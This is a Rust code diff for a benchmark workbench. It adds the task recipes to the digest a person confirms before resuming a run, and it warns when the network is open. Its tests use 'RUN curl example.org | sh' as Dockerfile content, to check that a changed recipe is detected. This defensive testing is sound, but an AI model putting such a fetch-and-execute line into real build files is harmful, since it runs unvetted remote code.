@@ -8,15 +8,19 @@
 use std::collections::HashMap;
 use std::path::Path;
 
+use files::deadline::within_limit;
 use model::plain_line;
 use runner::origin::{self, Identity, Record};
 use runner::settings::{EndpointSettings, KeySource, RunSettings};
 use serde::{Deserialize, Serialize};
+use sha2::{Digest as _, Sha256};
 
 use super::run_error;
+use super::trust_rows::Amount;
 use crate::Workbench;
 use crate::api::{
-    ApiError, EndpointHere, EndpointMode, FormSettings, KeyPlace, RunFolder, RunTrust, TaskImages, TrustRun,
+    ApiError, EndpointHere, EndpointMode, FormNetwork, FormSettings, KeyPlace, RunFolder, RunTrust,
+    TaskImages, TrustRun,
 };
 
 /// An endpoint with its key, as the library remembers it.
@@ -85,12 +89,13 @@ impl Workbench {
         changes: Vec<String>,
         trust: Option<&TrustRun>,
     ) -> Result<(Vec<String>, Identity), ApiError> {
-        let Record { identity, settings, .. } = resumable(folder)?;
+        let Record { identity, settings, scenarios, .. } = resumable(folder)?;
         if self.store.began_here(&identity.run, &identity.digest)? {
             return Ok((changes, identity));
         }
         let Some(trust) = trust else { return Err(stranger(folder)) };
-        if trust.digest != identity.digest_in_hex() {
+        // The recipes lie beside the record: they may be others by now than those that were shown.
+        if trust.digest != TasksShown::new(&settings, &scenarios).digest_with(&identity) {
             return Err(run_error(runner::RunError::Changed { path: folder.to_owned() }));
         }
         let changes = with_what_is_ours(&settings, changes, trust, self.endpoints_here()?.first())?;
@@ -144,6 +149,8 @@ impl Workbench {
                 .then(|| format!("the container arguments {}", settings.extra_docker_args)),
             (!settings.harness_file.is_empty())
                 .then(|| format!("the harness file {}", settings.harness_file)),
+            (settings.network == FormNetwork::Open)
+                .then(|| "the network open: agents reach the internet".to_owned()),
             (!settings.env_vars.is_empty())
                 .then(|| format!("the variables {}", settings.env_vars.join(", "))),
         ];
@@ -177,8 +184,9 @@ fn resumable(folder: &Path) -> Result<Record, ApiError> {
 
 /// What a resume of the run would do. Whoever made the folder wrote these texts: none may look like another row.
 fn described(folder: &Path, record: Record, trusted: bool, here: Option<&Endpoint>) -> RunTrust {
-    let Record { identity, settings, harness, image, scenarios } = record;
+    let Record { identity, settings, harness, image, scenarios, turns } = record;
     let tasks = TasksShown::new(&settings, &scenarios);
+    let amount = Amount { episodes: scenarios.len() as u64, turns };
     let (mode, endpoint, key) = match &settings.endpoint {
         EndpointSettings::Gateway { base_url, key } => ("gateway", Some(base_url.clone()), key_in_words(key)),
         EndpointSettings::Direct => (
@@ -194,20 +202,22 @@ fn described(folder: &Path, record: Record, trusted: bool, here: Option<&Endpoin
     let private = folder.join(".stamina");
     // A folder that containers get is written to as well, unless it is bound to be read only.
     let bound = settings.extra.binds.iter().filter(|bind| !bind.ends_with(":ro"));
-    let writes = bound.filter_map(|bind| bind.split(':').next()).map(str::to_owned);
+    let writes = bound.filter_map(|bind| bind.split(':').next()).map(super::binds::end_of);
     let mut run = RunTrust {
         trusted,
-        digest: identity.digest_in_hex(),
+        digest: tasks.digest_with(&identity),
         mode: mode.to_owned(),
         endpoint: endpoint.as_deref().map(plain_line),
         key: key.as_deref().map(plain_line),
+        model: settings.model.as_deref().map(plain_line),
+        budget: super::trust_rows::budget_in_words(&settings),
         harness: plain_line(&harness),
         harness_file: settings
             .harness_file
             .as_ref()
             .map(|_| private.join("harness.toml").display().to_string()),
         image: settings.use_docker.then(|| plain_line(&image)),
-        binds: lines(settings.extra.binds.clone()),
+        binds: lines(settings.extra.binds.iter().map(|bind| super::binds::with_its_end(bind)).collect()),
         arguments: plain_line(&settings.extra_arguments()),
         variables: lines(variables),
         variables_set: lines(set),
@@ -225,6 +235,7 @@ fn described(folder: &Path, record: Record, trusted: bool, here: Option<&Endpoin
             ))),
             (None, None) => None,
         },
+        plays: super::trust_rows::amount_in_words(&settings, &amount),
         task_images: tasks.images,
         task_images_more: tasks.more,
         tasks_unreadable: tasks.unreadable,
@@ -248,21 +259,37 @@ struct TasksShown {
     images: Vec<TaskImages>,
     more: u32,
     unreadable: Option<String>,
+    /// SHA-256 of all that was looked at, also of what is too much to be shown; `None` = no tasks are played.
+    sha256: Option<[u8; 32]>,
 }
 
 impl TasksShown {
+    /// Blocks, for at most [`files::deadline::LIMIT`].
     fn new(settings: &RunSettings, numbers: &[u32]) -> Self {
         let Some(tasks) = &settings.tasks else { return Self::default() };
-        let found = match runner::task_images(&tasks.folder, numbers) {
+        let (folder, asked) = (tasks.folder.clone(), numbers.to_vec());
+        let looked = within_limit(&tasks.folder, move || {
+            runner::task_images(&folder, &asked).map_err(|error| error.to_string())
+        });
+        let found = match looked.unwrap_or_else(|error| Err(error.to_string())) {
             Ok(found) => found,
-            Err(error) => {
-                return Self { unreadable: Some(plain_line(&error.to_string())), ..Self::default() };
+            Err(why) => {
+                let sha256 = Some(Sha256::digest(&why).into());
+                return Self { unreadable: Some(plain_line(&why)), sha256, ..Self::default() };
             }
         };
         // Tasks of one benchmark mostly share a recipe.
         let mut places: HashMap<(Option<String>, runner::Recipe), usize> = HashMap::new();
+        let mut hash = Sha256::new();
         let mut shown = Self::default();
         for one in found {
+            // Texts with their lengths, so that none runs into the next.
+            for text in [Some(&one.task), one.image.as_ref()] {
+                let length = text.map_or(u64::MAX, |text| text.len() as u64);
+                hash.update(length.to_le_bytes());
+                hash.update(text.map_or("", String::as_str));
+            }
+            hash.update(one.recipe_sha256);
             let task = plain_line(&one.task);
             let key = (one.image, one.recipe);
             if let Some(at) = places.get(&key) {
@@ -285,7 +312,15 @@ impl TasksShown {
             });
             places.insert(key, shown.images.len() - 1);
         }
+        shown.sha256 = Some(hash.finalize().into());
         shown
+    }
+
+    /// What a person confirms who has seen the record of a run and this: 64 hexadecimal digits.
+    fn digest_with(&self, identity: &Identity) -> String {
+        let Some(sha256) = self.sha256 else { return identity.digest_in_hex() };
+        let both = Sha256::new().chain_update(identity.digest).chain_update(sha256).finalize();
+        Identity { run: identity.run.clone(), digest: both.into() }.digest_in_hex()
     }
 }
 
@@ -344,6 +379,8 @@ fn with_what_is_ours(
 
 #[cfg(test)]
 mod tests {
+    use std::collections::BTreeSet;
+
     use super::*;
 
     fn settings(more: &[&str]) -> RunSettings {
@@ -424,7 +461,21 @@ mod tests {
             ]
         );
         assert_eq!(shown.images[0].executes, ["RUN curl example.org | sh"]);
-        assert_eq!((shown.more, shown.unreadable), (0, None));
+        assert_eq!((shown.more, &shown.unreadable), (0, &None));
+        // Another recipe is not what was confirmed, also where it is too long for the page to show it.
+        let identity = Identity { run: "00000000".to_owned(), digest: [7; 32] };
+        let digest = || TasksShown::new(&theirs, &[0, 1, 2, 3]).digest_with(&identity);
+        let confirmed = shown.digest_with(&identity);
+        assert!(confirmed.len() == 64 && confirmed == digest());
+        let long = "RUN true\n".repeat(60);
+        let mut seen = BTreeSet::from([confirmed, identity.digest_in_hex()]);
+        for last in ["true", "curl example.org | sh"] {
+            put("3/environment/Dockerfile", &format!("FROM debian\n{long}RUN {last}\n"));
+            assert!(seen.insert(digest()), "{last}");
+        }
+        put("4/environment/Dockerfile", "FROM never either\n");
+        assert!(!seen.insert(digest()), "a task that is not played");
+        assert_eq!(TasksShown::default().digest_with(&identity), identity.digest_in_hex());
         let removed =
             runner::settings::resolve(&[], &values.map(|text| text.replace(&tasks, "tasks=/nowhere/at/all")));
         assert!(TasksShown::new(&removed.unwrap(), &[0]).unreadable.is_some());
